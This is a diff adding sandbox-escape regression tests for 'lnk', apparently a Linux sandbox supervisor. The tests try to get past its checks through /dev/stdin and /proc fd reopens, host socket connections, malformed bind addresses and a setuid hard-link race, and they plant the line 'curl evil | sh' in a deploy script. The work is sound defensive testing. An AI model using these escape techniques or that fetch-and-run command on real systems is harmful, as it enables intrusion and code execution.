@@ -237,11 +237,6 @@ def test_grant_that_reaches_outside_refused(lnk, path):
     assert cp.returncode == 2, (cp.returncode, cp.stderr)
 
 
-@pytest.mark.xfail(strict=True, reason=(
-    "GAP (listed by check, src/check/tries.c gaps[0]): connect() to a host "
-    "daemon's unix socket inside a --read folder answers; could be closed "
-    "by notifying connect() (and sendto with an address) to the supervisor "
-    "and refusing sockets the sandbox did not bind"))
 def test_host_unix_socket_in_read_folder_unreachable(lnk, work):
     """Threat: talk to a host daemon (gpg-agent, docker) via a granted folder."""
     path = work / "agent.sock"
@@ -1969,3 +1964,445 @@ def test_a_spec_cannot_grant_what_the_wire_never_reaches(lnk, work, section,
     cp = lnk.run("--spec", "hostile.toml", "--", "true")
     assert cp.returncode == 2, (value, cp.stdout, cp.stderr)
     assert words in cp.stderr, (value, cp.stderr)
+
+# --- the guard's descriptors and addresses ---
+#
+# The guard opens, links, renames and binds for the program. Whatever path
+# or descriptor names the object, it must never give more than the
+# program's descriptor already gives (its access mode), nor reach anything
+# beneath a descriptor that the sandbox's grants do not hold: an inherited
+# stdin, stdout or folder is the host's, outside every grant.
+
+FD_VIAS = ["/dev/stdin", "/dev/fd/0", "/proc/self/fd/0",
+           "/proc/thread-self/fd/0"]
+
+
+def test_host_stdin_not_writable_through_reopen(lnk, work, tmp_path):
+    """Threat: `./prog < deploy.sh`: open("/dev/stdin", O_WRONLY|O_CREAT)
+    reopened for writing by the guard, and the program rewrites the
+    user's deploy.sh, which the user runs next."""
+    deploy = tmp_path / "deploy.sh"
+    deploy.write_text("echo deploying\n")
+    with open(deploy, "rb") as stdin:
+        cp = py(lnk, f"""
+            import os
+            for via in {FD_VIAS!r}:
+                for fl in (os.O_WRONLY | os.O_CREAT, os.O_RDWR | os.O_CREAT,
+                           os.O_WRONLY | os.O_CREAT | os.O_TRUNC,
+                           os.O_RDONLY | os.O_CREAT | os.O_TRUNC,
+                           os.O_WRONLY | os.O_CREAT | os.O_APPEND):
+                    try:
+                        fd = os.open(via, fl, 0o644)
+                    except OSError as e:
+                        print("refused", via, fl, e.errno); continue
+                    try:
+                        os.write(fd, b"curl evil | sh\\n"); print("WROTE", via)
+                    except OSError as e:
+                        print("opened", via, fl, e.errno)
+            # reading it again stays possible: no more than the fd has
+            fd = os.open("/dev/stdin", os.O_RDONLY | os.O_CREAT)
+            print("read", os.read(fd, 100))
+        """, "--write", work, stdin=stdin)
+    assert deploy.read_text() == "echo deploying\n", cp.stdout + cp.stderr
+    assert "WROTE" not in cp.stdout, cp.stdout
+    assert cp.stdout.count("refused") == 20, cp.stdout + cp.stderr
+    assert "read b'echo deploying\\n'" in cp.stdout, cp.stdout + cp.stderr
+
+
+def test_host_stdout_not_readable_through_reopen(lnk, work, tmp_path):
+    """Threat: `./prog >> app.log`: open("/dev/stdout", O_RDWR|O_CREAT)
+    reads back what other programs wrote to the host's log."""
+    log = tmp_path / "app.log"
+    log.write_text("password=hunter2\n")
+    # lnk's own stdout is the test's pipe: the log reaches the program as
+    # its stdin, which a shell inside makes its stdout
+    with open(log, "ab") as out:
+        cp = lnk.run("--write", work, "--", "/bin/sh", "-c",
+                     'exec "$0" -c "$1" 1>&0 0</dev/null', PY,
+                     textwrap.dedent("""
+            import os, sys
+            for via in ("/dev/stdout", "/dev/fd/1", "/proc/self/fd/1"):
+                for fl in (os.O_RDWR | os.O_CREAT, os.O_RDONLY | os.O_CREAT):
+                    try:
+                        fd = os.open(via, fl)
+                        os.lseek(fd, 0, 0)
+                        sys.stderr.write("READ %r\\n" % os.read(fd, 100))
+                    except OSError as e:
+                        sys.stderr.write("refused %d\\n" % e.errno)
+            # writing, as the descriptor allows, still works
+            fd = os.open("/dev/stdout", os.O_WRONLY | os.O_CREAT | os.O_APPEND)
+            os.write(fd, b"appended\\n")
+        """), stdin=out, timeout=60)
+    assert "hunter2" not in cp.stderr, cp.stderr
+    assert "READ" not in cp.stderr, cp.stderr
+    assert cp.stderr.count("refused") == 6, cp.stderr
+    assert log.read_text() == "password=hunter2\nappended\n"
+
+
+HOST_DIR_ATTACKS = {
+    "create-dev-stdin": 'os.close(os.open("/dev/stdin/f", os.O_CREAT | os.O_WRONLY, 0o644))',
+    "create-dev-fd": 'os.close(os.open("/dev/fd/0/f", os.O_CREAT | os.O_WRONLY, 0o644))',
+    "create-proc-fd": 'os.close(os.open("/proc/self/fd/0/f", os.O_CREAT | os.O_WRONLY, 0o644))',
+    "create-dirfd": 'os.close(os.open("f", os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=0))',
+    "create-fchdir": 'os.fchdir(0); os.close(os.open("f", os.O_CREAT | os.O_WRONLY, 0o644))',
+    "create-dotdot-beneath": 'os.close(os.open("/dev/fd/0/sub/../f", os.O_CREAT | os.O_WRONLY, 0o644))',
+    "read-existing-creat": 'print("READ", os.read(os.open("/dev/fd/0/secret", os.O_RDONLY | os.O_CREAT), 100))',
+    "write-existing-creat": 'os.write(os.open("/dev/fd/0/secret", os.O_WRONLY | os.O_CREAT), b"x")',
+    "mkdir-git": 'os.mkdir("/dev/fd/0/.git")',
+    "mkdir-sub": 'os.mkdir("/dev/stdin/newdir")',
+    "mkdir-dirfd": 'os.mkdir("newdir", dir_fd=0)',
+    "mkfifo": 'os.mkfifo("/dev/fd/0/fifo")',
+    "symlink": 'os.symlink("/etc/passwd", "/dev/fd/0/l")',
+    "link-in": 'open("t", "w").close(); os.link("t", "/dev/fd/0/l")',
+    "link-out": 'os.link("/dev/fd/0/secret", "stolen")',
+    "link-out-follow": 'os.link("/proc/self/fd/0/secret", "stolen", follow_symlinks=True)',
+    "rename-in": 'open("t", "w").close(); os.rename("t", "/dev/fd/0/moved")',
+    "rename-out": 'os.rename("/dev/fd/0/secret", "stolen")',
+    "rename-within": 'os.rename("/dev/fd/0/secret", "/dev/fd/0/secret2")',
+    "bind-unix": 'socket.socket(socket.AF_UNIX).bind("/dev/fd/0/sock")',
+}
+
+
+@pytest.mark.parametrize("way", sorted(HOST_DIR_ATTACKS))
+def test_host_folder_descriptor_not_written(lnk, work, tmp_path, way):
+    """Threat: a host folder given as a descriptor (fd 0 here; a shell
+    cannot `< dir`, a program that starts lnk can): the guard creates,
+    links, renames or binds beneath it, or opens what is in it, though no
+    grant holds it (`mkdir /dev/fd/0/.git` in the host's folder)."""
+    host = tmp_path / "hostdir"
+    host.mkdir()
+    (host / "sub").mkdir()
+    (host / "secret").write_text("s3cret\n")
+    before = sorted(p.name for p in host.rglob("*"))
+    dfd = os.open(host, os.O_RDONLY | os.O_DIRECTORY)
+    # Python will not start with a folder as its stdin: a shell inside
+    # moves it to fd 3, and the program puts it back on 0.
+    code = textwrap.dedent(f"""
+        import os, socket
+        os.dup2(3, 0)
+        try:
+            {HOST_DIR_ATTACKS[way]}
+            print("DONE")
+        except OSError as e:
+            print("refused", e.errno)
+    """)
+    try:
+        cp = lnk.run("--write", work, "--", "/bin/sh", "-c",
+                     'exec "$0" -c "$1" 3<&0 0</dev/null', PY, code,
+                     stdin=dfd, timeout=60)
+    finally:
+        os.close(dfd)
+    assert sorted(p.name for p in host.rglob("*")) == before, cp.stdout
+    assert (host / "secret").read_text() == "s3cret\n"
+    assert "s3cret" not in cp.stdout, cp.stdout
+    assert not (work / "stolen").exists()
+    assert "refused" in cp.stdout, cp.stdout + cp.stderr
+
+
+BIND_LOW = {
+    # sockaddr_in6 without sin6_scope_id: the kernel takes 24 bytes
+    "in6-24": "fam, size = socket.AF_INET6, 24",
+    "in6-28": "fam, size = socket.AF_INET6, 28",
+    # inet_bind takes AF_UNSPEC as AF_INET when the address is 0.0.0.0
+    "in4-unspec": "fam, size = socket.AF_INET, 16; fld = 0",
+    "in4-16": "fam, size = socket.AF_INET, 16",
+    # a family field that says AF_UNIX on an inet socket
+    "in6-unix-field": "fam, size = socket.AF_INET6, 28; fld = 1",
+}
+
+
+@pytest.mark.parametrize("form", sorted(BIND_LOW))
+def test_bind_low_port_refused_in_every_address_form(lnk, work, form):
+    """Threat: the guard binds with CAP_NET_BIND_SERVICE in the sandbox's
+    network namespace; an address form its port check does not read (24
+    bytes of AF_INET6, AF_UNSPEC) binds port 80 through it."""
+    cp = py(lnk, f"""
+        import ctypes, socket, struct
+        libc = ctypes.CDLL(None, use_errno=True)
+        fld = None
+        {BIND_LOW[form]}
+        s = socket.socket(fam, socket.SOCK_STREAM)
+        fld = fam if fld is None else fld
+        b = struct.pack("=H", fld) + struct.pack("!H", 80)
+        if fam == socket.AF_INET6:
+            b += b"\\0" * 4 + socket.inet_pton(socket.AF_INET6, "::1")
+        else:
+            b += socket.inet_aton("0.0.0.0")
+        b = (b + b"\\0" * 32)[:size]
+        r = libc.bind(s.fileno(), ctypes.c_char_p(b), size)
+        e = ctypes.get_errno()
+        print("BOUND" if r == 0 else "refused %d" % e, s.getsockname())
+    """, "--write", work)
+    assert "refused" in cp.stdout, cp.stdout + cp.stderr
+    assert "BOUND" not in cp.stdout, cp.stdout
+
+
+def test_bind_unix_address_longer_than_sockaddr_un(lnk, work):
+    """Threat: an AF_UNIX address of 111 to 128 bytes (sockaddr_storage)
+    copied into the guard's 109-byte path buffer: a write past it in the
+    supervisor. The kernel refuses such a length (EINVAL); so must the
+    guard, and the sandbox keeps working."""
+    cp = py(lnk, """
+        import ctypes, os, socket
+        libc = ctypes.CDLL(None, use_errno=True)
+        for size in (110, 111, 120, 128):
+            s = socket.socket(socket.AF_UNIX)
+            b = (b"\\x01\\x00" + b"A" * 200)[:size]
+            r = libc.bind(s.fileno(), ctypes.c_char_p(b), size)
+            print(size, "bound" if r == 0 else ctypes.get_errno())
+        open("after", "w").close(); print("after", os.path.exists("after"))
+    """, "--write", work)
+    assert cp.returncode == 0, cp.stdout + cp.stderr
+    assert "111 22" in cp.stdout and "128 22" in cp.stdout, cp.stdout
+    assert "after True" in cp.stdout, cp.stdout
+
+
+def test_bind_other_socket_families_not_performed(lnk, work):
+    """Threat: the guard binds a netlink socket to multicast groups that
+    need CAP_NET_ADMIN, which it holds over the sandbox's namespaces."""
+    cp = py(lnk, """
+        import socket
+        for proto, groups in ((0, 1 << 29), (16, 1), (6, 1)):
+            try:
+                s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, proto)
+            except OSError as e:
+                print("nosock", proto, e.errno); continue
+            try:
+                s.bind((0, groups)); print("BOUND", proto)
+            except OSError as e:
+                print("refused", proto, e.errno)
+        s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
+        s.bind((0, 1)); print("route link group", s.getsockname())
+    """, "--write", work)
+    assert "BOUND" not in cp.stdout, cp.stdout + cp.stderr
+    assert "route link group" in cp.stdout, cp.stdout + cp.stderr
+
+
+def test_casefold_cannot_be_set_inside(lnk, work):
+    """Threat: chattr +F (FS_IOC_SETFLAGS with FS_CASEFOLD_FL) on the
+    empty top of a write folder, then ".vſcode", which a casefolding
+    file system takes for the .vscode a host editor opens."""
+    cp = py(lnk, """
+        import fcntl, os, struct
+        fd = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
+        for cmd in (0x40086602, 0x40046602, 0x140086602):
+            try:
+                fcntl.ioctl(fd, cmd, struct.pack("l", 0x40000000))
+                print("SET", hex(cmd))
+            except OSError as e:
+                print("refused", e.errno)
+    """, "--write", work)
+    assert "SET" not in cp.stdout, cp.stdout + cp.stderr
+    assert cp.stdout.count("refused 1") == 3, cp.stdout + cp.stderr
+
+
+CONNECT_WAYS = {
+    "path": 'c(P)',
+    "relative": 'os.chdir(os.path.dirname(P)); c(os.path.basename(P))',
+    "symlink": 'os.symlink(P, W + "/l"); c(W + "/l")',
+    "dotdot": 'c(W + "/../" + os.path.relpath(P, os.path.dirname(W)))',
+    "proc-fd-opath": 'c("/proc/self/fd/%d" % os.open(P, os.O_PATH))',
+    "dev-fd-opath": 'c("/dev/fd/%d" % os.open(P, os.O_PATH))',
+    "dgram": 'c(P, socket.SOCK_DGRAM)',
+    "seqpacket": 'c(P, socket.SOCK_SEQPACKET)',
+}
+
+
+@pytest.mark.parametrize("grant", ["--read", "--write"])
+@pytest.mark.parametrize("way", sorted(CONNECT_WAYS))
+def test_host_unix_socket_unreachable_every_way(lnk, home, work, tmp_path,
+                                                grant, way):
+    """Threat: a host daemon's socket (gpg-agent, docker) in a granted
+    folder, reached by path, symlink, "..", or an O_PATH descriptor."""
+    d = home / "gnupg"
+    d.mkdir()
+    srvs, paths = [], {}
+    for typ in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
+        p = d / f"S.agent.{int(typ)}"
+        s = socket.socket(socket.AF_UNIX, typ)
+        s.bind(str(p))
+        os.chmod(p, 0o777)
+        if typ != socket.SOCK_DGRAM:
+            s.listen(4)
+        srvs.append(s)
+        paths[int(typ)] = str(p)
+    code = f"""
+        import os, socket
+        W = {str(work)!r}
+        PATHS = {paths!r}
+        P = PATHS[int(socket.SOCK_STREAM)]
+        def c(path, typ=socket.SOCK_STREAM):
+            global P
+            if typ != socket.SOCK_STREAM and path == P:
+                path = PATHS[int(typ)]
+            s = socket.socket(socket.AF_UNIX, typ)
+            s.connect(path)
+            print("CONNECTED")
+        try:
+            {CONNECT_WAYS[way]}
+        except OSError as e:
+            print("refused", e.errno)
+    """
+    try:
+        cp = py(lnk, code, grant, home, "--write", work)
+    finally:
+        for s in srvs:
+            s.close()
+    assert "CONNECTED" not in cp.stdout, cp.stdout + cp.stderr
+    assert "refused" in cp.stdout, cp.stdout + cp.stderr
+
+
+@pytest.mark.parametrize("where", ["write", "tmp"])
+def test_unix_sockets_made_inside_still_answer(lnk, work, where):
+    """What must keep working: a server and client inside the sandbox, on
+    a socket in the write folder or in its /tmp, by path, relative path,
+    symlink and O_PATH descriptor; stream, datagram and abstract."""
+    code = textwrap.dedent("""
+        import os, socket, sys, threading
+        base = os.getcwd() if sys.argv[1] == "write" else "/tmp"
+        p = base + "/srv.sock"
+        srv = socket.socket(socket.AF_UNIX)
+        srv.bind(p); srv.listen(8)
+        def serve():
+            while True:
+                c, _ = srv.accept(); c.sendall(c.recv(100).upper()); c.close()
+        threading.Thread(target=serve, daemon=True).start()
+        def ask(path):
+            c = socket.socket(socket.AF_UNIX); c.connect(path)
+            c.sendall(b"ping"); r = c.recv(100); c.close(); return r
+        os.symlink(p, base + "/link.sock")
+        os.chdir(base)
+        print(ask(p), ask("srv.sock"), ask(base + "/link.sock"),
+              ask("/proc/self/fd/%d" % os.open(p, os.O_PATH)))
+        d = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
+        d.bind(base + "/dg.sock")
+        e = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
+        e.connect(base + "/dg.sock"); e.send(b"dgram"); print(d.recv(10))
+        a = socket.socket(socket.AF_UNIX); a.bind(b"\\0lnk-abstract"); a.listen(1)
+        b = socket.socket(socket.AF_UNIX); b.connect(b"\\0lnk-abstract")
+        print("abstract", a.accept()[0] is not None)
+        t = socket.socket(); t.bind(("127.0.0.1", 0)); t.listen(1)
+        u = socket.create_connection(t.getsockname()); print("tcp ok")
+    """)
+    # with only a read grant the guard runs for connect() alone
+    grant = "--write" if where == "write" else "--read"
+    cp = lnk.run(grant, work, "--", PY, "-c", code, where, timeout=60)
+    assert cp.returncode == 0, cp.stdout + cp.stderr
+    assert "b'PING' b'PING' b'PING' b'PING'" in cp.stdout, cp.stdout
+    assert "b'dgram'" in cp.stdout and "abstract True" in cp.stdout
+    assert "tcp ok" in cp.stdout
+
+
+def test_link_source_swap_never_links_a_setuid_program(lnk, work):
+    """Threat: the guard checked a link's source by descriptor, then
+    linked it again by name; a thread exchanging the name with a setuid
+    program in between gave that program a new name (found 3 times in 10 s
+    before the guard linked by the descriptor it checked)."""
+    (work / "a").write_text("ordinary\n")
+    shutil.copy("/bin/true", work / "s")
+    os.chmod(work / "s", 0o4755)
+    cp = py(lnk, """
+        import ctypes, os, threading, time
+        libc = ctypes.CDLL(None, use_errno=True)
+        stop = False
+        def flip():
+            while not stop:
+                libc.renameat2(-100, b"a", -100, b"s", 2)  # EXCHANGE
+        threading.Thread(target=flip, daemon=True).start()
+        n, end = 0, time.monotonic() + 8
+        while time.monotonic() < end:
+            try:
+                os.link("a", "l%d" % n); n += 1
+            except OSError:
+                pass
+        stop = True
+        print("links", n)
+    """, "--write", work, timeout=120)
+    assert cp.returncode == 0, cp.stdout + cp.stderr
+    bad = [p.name for p in work.iterdir()
+           if p.name.startswith("l") and p.stat().st_mode & 0o6000]
+    assert bad == [], (bad, cp.stdout)
+    assert "links" in cp.stdout
+
+
+def test_host_unix_socket_unreachable_without_dot_guard(lnk, home):
+    """Threat: with --write-dot-files lifting the dot-file guard, the
+    supervisor runs for connect() alone; a host daemon's socket in the
+    granted folder must still not answer, and sockets made inside must."""
+    path = home / "S.gpg-agent"
+    srv = socket.socket(socket.AF_UNIX)
+    srv.bind(str(path))
+    os.chmod(path, 0o777)
+    srv.listen(4)
+    try:
+        cp = py(lnk, f"""
+            import os, socket
+            s = socket.socket(socket.AF_UNIX)
+            try:
+                s.connect({str(path)!r}); print("CONNECTED")
+            except OSError as e:
+                print("refused", e.errno)
+            m = socket.socket(socket.AF_UNIX); m.bind("mine.sock"); m.listen(1)
+            c = socket.socket(socket.AF_UNIX); c.connect("mine.sock")
+            print("mine", m.accept()[0] is not None)
+        """, "--write", home, "--write-dot-files", home, cwd=home)
+    finally:
+        srv.close()
+    assert "CONNECTED" not in cp.stdout, cp.stdout + cp.stderr
+    assert "refused 13" in cp.stdout and "mine True" in cp.stdout, \
+        cp.stdout + cp.stderr
+
+
+def test_inherited_host_socket_reaches_no_host_abstract_socket(lnk, work):
+    """Threat: a unix datagram socket inherited from the host (stdin)
+    connected by the guard to an abstract name: the name is looked up in
+    the host's network namespace (a D-Bus or X11 abstract socket), which
+    the program's own Landlock scope refuses natively."""
+    name = b"\0lnk-e2e-abstract-%d" % os.getpid()
+    srv = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
+    srv.bind(name)
+    srv.settimeout(0.5)
+    inherited = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
+    try:
+        cp = py(lnk, f"""
+            import os, socket
+            s = socket.socket(fileno=os.dup(0))
+            try:
+                s.connect({name!r}); s.send(b"hi"); print("CONNECTED")
+            except OSError as e:
+                print("refused", e.errno)
+        """, "--read", work, stdin=inherited.fileno())
+        try:
+            got = srv.recv(10)
+        except OSError:
+            got = None
+    finally:
+        srv.close()
+        inherited.close()
+    assert "CONNECTED" not in cp.stdout and got is None, cp.stdout
+    assert "refused 1" in cp.stdout, cp.stdout + cp.stderr
+
+
+def test_host_stdin_file_not_linked_into_write_folder(lnk, work, tmp_path):
+    """Threat: the host file given as stdin given a name in the write
+    folder (linkat AT_EMPTY_PATH, or /proc/self/fd/0 followed), where the
+    program could then open it for writing by that name."""
+    deploy = tmp_path / "deploy.sh"
+    deploy.write_text("echo deploying\n")
+    with open(deploy, "rb") as stdin:
+        cp = py(lnk, """
+            import ctypes, os
+            libc = ctypes.CDLL(None, use_errno=True)
+            r = libc.linkat(0, b"", -100, b"stolen1", 0x1000)
+            print("empty-path", r, ctypes.get_errno())
+            for via in ("/proc/self/fd/0", "/dev/stdin", "/dev/fd/0"):
+                try:
+                    os.link(via, "stolen2", follow_symlinks=True)
+                    print("LINKED", via)
+                except OSError as e:
+                    print("refused", via, e.errno)
+        """, "--write", work, stdin=stdin)
+    assert not (work / "stolen1").exists() and not (work / "stolen2").exists()
+    assert "LINKED" not in cp.stdout and "empty-path -1" in cp.stdout, \
+        cp.stdout + cp.stderr
+    assert deploy.stat().st_nlink == 1
